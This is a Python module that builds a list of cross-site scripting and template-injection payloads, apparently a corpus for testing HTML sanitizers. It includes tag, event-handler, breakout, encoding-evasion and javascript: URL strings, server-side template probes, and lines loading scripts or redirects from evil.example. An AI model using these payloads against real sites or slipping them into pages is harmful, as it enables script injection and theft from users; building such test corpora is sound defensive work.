"""Ways to smuggle script into a page: our own, after the published classes (OWASP, PortSwigger, html5sec)."""

from __future__ import annotations

import itertools

_CALL = "alert(1)"
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onpointerenter",
    "onanimationend",
    "onbeforetoggle",
)

_ELEMENTS = [
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script\t>{_CALL}</script\n>",
    f"<script/x>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg/onload={_CALL}>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<math><mtext></mtext><mglyph><svg><style><img src onerror={_CALL}></style></svg></mglyph></math>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href='java\tscript:{_CALL}'>x</a>",
    "<base href=https://evil.example/><script src=x.js></script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/pixel.gif>",
    "<video><source src=https://evil.example/v.mp4></video>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<template><script>{_CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<xmp></xmp><script>{_CALL}</script>",
    f"<title></title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><svg/onload={_CALL}>",
    f"</select><img src=x onerror={_CALL}>",
    f"</option></datalist><img src=x onerror={_CALL}>",
]
_HANDLERS = [
    f"<{tag} {event}={_CALL} src=x tabindex=1 autofocus>"
    for tag, event in itertools.product(("img", "body", "details open", "input", "x"), _EVENTS)
]
_BREAKOUTS = [
    f"{quote}{space}{event}={_CALL}{space}x={quote}"
    for quote, space, event in itertools.product(
        ('"', "'", "`", "&quot;"), (" ", "/", "\n"), ("onfocus", "onmouseover", "onerror")
    )
]
#: Where an attribute's value, a URL, CSS or a script's string would be left.
_CONTEXTS = [
    f"{end}{opener}{_CALL}{close}"
    for end, (opener, close) in itertools.product(
        ('">', "'>", "-->", "]]>", "</style>", "</script>", "*/", "');", '");', "\\u0022>"),
        (
            ("<script>", "</script>"),
            ("<svg/onload=", ">"),
            ("<img/src/onerror=", ">"),
            ("<a/href=javascript:", ">x</a>"),
            ("<details/open/ontoggle=", ">"),
            ("<iframe/src=javascript:", ">"),
            ("<input/autofocus/onfocus=", ">"),
            ("<style>*{background:url(javascript:", ")}</style>"),
            ("<set attributeName=onmouseover to=", ">"),
        ),
    )
]
_TEMPLATES = [
    "{{7*7}}",
    "{{config}}",
    "{%import os%}",
    "${7*7}",
    "#{7*7}",
    "<%=7*7%>",
    "{{request.application.__globals__}}",
    "[[7*7]]",
]
_ENCODINGS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0000ipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
]
_SCHEMES = [
    *(
        f"{scheme}{_CALL}"
        for scheme in (
            "javascript:",
            "JaVaScRiPt:",
            " javascript:",
            "java\nscript:",
            "\x01javascript:",
            "vbscript:",
            "livescript:",
        )
    ),
    f"data:text/html,<script>{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"javascript://x/%0a{_CALL}",
    f"javascript:{_CALL}//http://x.example",
    f"//evil.example/{_CALL}",
    f'https://x.example/"onmouseover="{_CALL}',
    f"https://x.example/'><script>{_CALL}</script>",
    "https://[::1",
    f"feed:javascript:{_CALL}",
]

PAYLOADS: list[str] = list(
    dict.fromkeys([*_ELEMENTS, *_HANDLERS, *_BREAKOUTS, *_CONTEXTS, *_TEMPLATES, *_ENCODINGS, *_SCHEMES])
)
